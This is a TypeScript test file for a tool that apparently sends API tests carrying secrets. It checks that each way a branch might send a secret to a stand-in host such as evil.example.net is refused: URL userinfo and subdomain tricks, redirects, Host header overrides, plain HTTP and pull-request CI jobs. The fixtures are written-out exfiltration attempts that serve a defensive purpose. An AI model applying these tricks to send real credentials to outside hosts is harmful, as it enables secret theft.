/** Each way in which a branch could have a secret sent away, and that none of them works. */
import { execFileSync } from 'node:child_process';
import { copyFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { endSendStages, onSendStage, secret, watchingProxy, type SendStage } from './send-stage.ts';

afterAll(endSendStages);

const withKey = (url: string, more = ''): string =>
  `tests:\n  - { name: one, request: { url: "${url}", headers: { x-key: "$(secret:KEY)"${more} } }, expect: { status: 200 } }\n`;

/** Runs the test, which fails with this text, and nothing has arrived anywhere. */
async function refused(
  stage: SendStage,
  tests: string,
  text: string,
  {
    flags = [],
    env = {},
  }: { readonly flags?: readonly string[]; readonly env?: Readonly<Record<string, string>> } = {},
): Promise<void> {
  stage.folder.write('tests/hello.yaml', tests);
  const { exit, stdout, stderr } = await stage.send(flags, env);
  expect(exit).not.toBe(0);
  // The headline of a finding is wrapped.
  expect((stdout + stderr).replaceAll(/\s+/g, ' ')).toContain(text);
  expect(stage.arrived).toEqual([]);
}

test('to a host that a test names, and no resource serves', async () => {
  await onSendStage(async (stage) => {
    await refused(stage, withKey('https://evil.example.net/'), 'no resource serves the host');
    await refused(
      stage,
      withKey('https://hello.example.com.evil.example.net/'),
      'no resource serves the host',
    );
    await refused(stage, withKey('https://hello.example.com@evil.example.net/'), 'is not a URL');
    await refused(stage, withKey('https://hello.example.com:8443/'), 'no environment has a resource');
  });
});

test('to a host that the files declare, and that was not applied', async () => {
  await onSendStage(async (stage) => {
    stage.folder.write(
      'resources/new.yaml',
      'kind: endpoint\nname: new\nspec: { url: https://evil.example.net, traffic_policy: \'{"on_http_request":[{"actions":[{"type":"deny"}]}]}\' }\n',
    );
    await refused(
      stage,
      withKey('https://evil.example.net/'),
      'serves the host of `https://evil.example.net/`, as last applied',
    );
    // The resource whose host is changed in the files is in the ledger with the host that it had.
    const text = stage.folder.read('resources/hello.yaml');
    stage.folder.write('resources/new.yaml', 'kind: preset\nname: none\nspec: {}\n');
    stage.folder.write('resources/hello.yaml', text.replace('hello.example.com\n', 'evil.example.net\n'));
    await refused(stage, withKey('https://evil.example.net/'), 'as last applied');
  });
});

test('without TLS', async () => {
  await onSendStage(async (stage) => {
    stage.folder.write(
      'resources/plain.yaml',
      'kind: endpoint\nname: plain\nspec: { url: http://hello.example.com, traffic_policy: \'{"on_http_request":[{"actions":[{"type":"deny"}]}]}\' }\n',
    );
    expect((await stage.folder.run(['apply', '--yes'])).exit).toBe(0);
    const flags = ['--resolve', `hello.example.com=127.0.0.1:${stage.ports.http}`];
    await refused(stage, withKey('http://hello.example.com/'), 'would get a secret without TLS', {
      flags,
    });
  });
});

test('to an address that has no certificate for the host', async () => {
  await onSendStage(async (stage) => {
    stage.folder.write('tests/hello.yaml', withKey('https://hello.example.com/'));
    const { resolved } = stage;
    const { exit, stdout } = await stage.folder.run(['test', '--send', ...resolved], {
      EDGEWRIGHT_SECRET_KEY: secret,
    });
    expect(exit).toBe(1);
    expect(stdout.replaceAll(/\s+/g, ' ')).toContain(
      'its certificate is not signed by an authority that is trusted here',
    );
    expect(stage.arrived).toEqual([]);
  });
});

test('after a redirect', async () => {
  await onSendStage(async (stage) => {
    stage.answer = () => ({ status: 302, headers: { location: 'https://evil.example.net/' } });
    stage.folder.write('tests/hello.yaml', withKey('https://hello.example.com/'));
    const { exit } = await stage.send();
    expect(exit).toBe(1);
    expect(stage.arrived.map(({ headers }) => headers.host)).toEqual(['hello.example.com']);
  });
});

test('by another name of the host in the request', async () => {
  await onSendStage(async (stage) => {
    const tests = withKey('https://hello.example.com/', ', host: evil.example.net');
    stage.folder.write('tests/hello.yaml', tests);
    const { stdout } = await stage.send();
    expect(stdout).toContain('a client sets the header `host` itself');
    expect(stage.arrived).toEqual([]);
  });
});

const jobs: readonly Readonly<Record<string, string>>[] = [
  { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request' },
  { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request_target' },
  { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'issue_comment' },
  { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'workflow_call', GITHUB_HEAD_REF: 'topic' },
  { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_REF: 'refs/pull/7/merge' },
  { GITLAB_CI: 'true', CI_PIPELINE_SOURCE: 'merge_request_event' },
  { GITLAB_CI: 'true', CI_MERGE_REQUEST_IID: '7' },
  { GITLAB_CI: 'true', CI_EXTERNAL_PULL_REQUEST_IID: '7' },
  { GITEA_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request_sync' },
  { FORGEJO_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request' },
  { BITBUCKET_PR_ID: '7' },
  { SYSTEM_PULLREQUEST_PULLREQUESTID: '7', TF_BUILD: 'True' },
];

test('in the job of a pull request', async () => {
  await onSendStage(async (stage) => {
    for (const env of jobs) {
      const { folder, ca } = stage;
      folder.write('tests/hello.yaml', withKey('https://hello.example.com/'));
      const said = await folder.run(['test', '--send', '--ca', ca], {
        ...env,
        EDGEWRIGHT_SECRET_KEY: secret,
      });
      expect(said).toMatchObject({ exit: 64 });
      expect(said.stderr).toContain('tests are not sent in a job of a pull request');
    }
    expect(stage.arrived).toEqual([]);
  });
});

test('to an address, or by an authority, that a job is given', async () => {
  await onSendStage(async (stage) => {
    const env = { CI: 'true' };
    await refused(stage, withKey('https://hello.example.com/'), '--resolve is not for a job', { env });
    copyFileSync(stage.ca, path.join(stage.folder.root, 'ca.pem'));
    const said = await stage.folder.run(['test', '--send', '--ca', 'ca.pem'], env);
    expect(said).toMatchObject({ exit: 64 });
    expect(said.stderr).toContain('is a file of the repository, and this is a job');
  });
});

test('through a proxy, which sees the host alone', async () => {
  await onSendStage(async (stage) => {
    const proxy = await watchingProxy(stage.ports.https);
    try {
      stage.folder.write('tests/hello.yaml', withKey('https://hello.example.com/'));
      const { exit, stdout } = await stage.folder.run(['test', '--send', '--ca', stage.ca], {
        HTTPS_PROXY: proxy.url,
        EDGEWRIGHT_SECRET_KEY: secret,
      });
      expect(stdout).toContain('Tests: 1 ok');
      expect(exit).toBe(0);
      expect(proxy.seen()).toContain('CONNECT hello.example.com:443');
      expect(proxy.seen()).not.toContain(secret);
      expect(stage.arrived[0]?.headers['x-key']).toBe(secret);
    } finally {
      await proxy.close();
    }
  });
});

test('a secret that is kept for other resources, or is not declared', async () => {
  await onSendStage(async (stage) => {
    const tests = withKey('https://hello.example.com/');
    await refused(
      stage,
      tests.replace('secret:KEY', 'secret:OTHERS'),
      'the secret `OTHERS` is not for `endpoint/hello`',
    );
    await refused(stage, tests.replace('secret:KEY', 'secret:HIDDEN'), 'the secret `HIDDEN` is not declared');
  });
});

test('with a ledger, or with settings, that a branch brings along', async () => {
  await onSendStage(async (stage) => {
    const { root } = stage.folder;
    const git = (...words: readonly string[]): void => {
      const author = ['-c', 'user.name=a', '-c', 'user.email=a@example.com', '-c', 'init.defaultBranch=main'];
      execFileSync('git', [...author, ...words], { cwd: root, stdio: 'ignore' });
    };
    const tests = withKey('https://hello.example.com/');
    stage.folder.write('tests/hello.yaml', tests);
    git('init');
    git('add', '--force', '.edgewright/production/ledger.json');
    await refused(stage, tests, 'is committed, so a branch can say which hosts are served');
    git('rm', '--cached', '--force', '.edgewright/production/ledger.json');
    git('add', 'edgewright.yaml');
    git('commit', '-m', 'approved');
    git('update-ref', 'refs/remotes/origin/main', 'HEAD');
    git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/main');
    expect((await stage.send()).exit).toBe(0);
    stage.arrived.length = 0;
    const settings = stage.folder.read('edgewright.yaml');
    stage.folder.write('edgewright.yaml', settings.replace('endpoint/other', 'endpoint/hello'));
    await refused(stage, tests, '`secrets:` of edgewright.yaml is not that of the default branch');
  });
});
